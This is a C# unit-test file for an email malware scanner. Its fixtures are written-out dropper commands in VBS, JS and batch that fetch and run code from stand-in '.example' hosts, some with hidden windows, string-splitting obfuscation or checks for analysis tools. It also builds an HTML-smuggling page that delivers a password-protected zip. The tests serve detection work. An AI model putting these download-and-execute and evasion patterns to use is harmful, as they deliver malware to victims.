using System.Text;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Documents;

/// <summary>Scripts as files by themselves: Windows goes by the name, so do we.</summary>
public sealed class ScriptFileTests
{
    private static Analysis Scan(byte[] bytes, string name) => new MailScanner(new ScanOptions { Strict = true, Limits = new AnalysisLimits { Time = TimeSpan.FromMinutes(1) } }).Scan(bytes, name);

    private static string[] Fetched(byte[] bytes, string name) => [.. Scan(bytes, name).Indicators.Where(indicator => indicator is { Type: IndicatorType.Url, Role: "download-url" }).Select(indicator => indicator.Value)];

    [Theory]
    [InlineData("a.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c \"\"IEX(New-Object Net.WebClient).DownloadString('http://f5.ex\" & \"ample/z')\"\"\", 0", "http://f5.example/z")]
    [InlineData("a.js", "var W=WScript.CreateObject(\"WScript.Shell\");W.Run(\"powershell -w h -c \\\"IEX(New-Object Net.WebClient).DownloadString('http://f4.\"+\"example/z')\\\"\",0,0);", "http://f4.example/z")]
    [InlineData("a.js", "var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl -o %TEMP%\\\\a.dll http://f3.'+'example/q && rundll32 %TEMP%\\\\a.dll,x',0);", "http://f3.example/q")]
    [InlineData("a.bat", "powershell -w hidden -c \"$u='http://i6.'+'example/z';IEX(New-Object Net.WebClient).DownloadString($u)\"", "http://i6.example/z")]
    [InlineData("a.bat", "@echo off\r\nif not DEFINED IS_MIN set IS_MIN=1 && start \"\" /min \"%~dpnx0\" %* && exit\r\nset h=http://b1.ex\r\ncurl -o %TEMP%\\a.dll %h%ample/a.dll\r\n", "http://b1.example/a.dll")]
    [InlineData("a.bat", "@echo off\r\npowershell -c \"iex ((gc '%~f0') -match '^#!' -replace '^#!','' -join ';')\"\r\nexit /b\r\n#!iwr ('http://b4.ex'+'ample/a')\r\n", "http://b4.example/a")]
    [InlineData("a.bat", "@echo off\r\ntasklist | findstr /i \"procmon wireshark\" >nul && exit\r\ncurl http://b9.ex^ample/a -o a.exe\r\n", "http://b9.example/a")]
    public void What_it_fetches_comes_out(string name, string source, string url) => Fetched(Encoding.UTF8.GetBytes(source), name).ShouldContain(url);

    [Fact]
    public void A_mark_of_UTF_16_hides_no_batch_file() =>
        Fetched([0xff, 0xfe, .. "&cls\r\n@echo off\r\nset k=https:/\r\ncurl %k%/b3.example/a.msi -o a.msi\r\n"u8], "a.bat").ShouldContain("https://b3.example/a.msi");

    [Fact]
    public void A_page_tells_the_password_of_the_archive_that_it_hands_over()
    {
        var archive = Convert.ToBase64String(ZipWriter.Write([("a.txt", "inside"u8.ToArray())], "abc888", ZipProtection.ZipCrypto));
        var page = $"<html><body><p>Your file password: <b>abc888</b></p><script>var b=atob('{archive}'),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click();</script></body></html>";
        Scan(Encoding.UTF8.GetBytes(page), "page.html").Artifacts.ShouldContain(file => file.Name == "a.txt");
    }

    [Fact]
    public void A_note_beside_an_archive_tells_its_password()
    {
        var inner = ZipWriter.Write([("a.txt", "inside"u8.ToArray())], "Tt66-1", ZipProtection.ZipCrypto);
        var outer = MacroDocument.Zip([("readme.txt", "The password is: Tt66-1\r\n"u8.ToArray()), ("inner.zip", inner)]);
        Scan(outer, "outer.zip").Artifacts.ShouldContain(file => file.Name == "a.txt");
    }
}
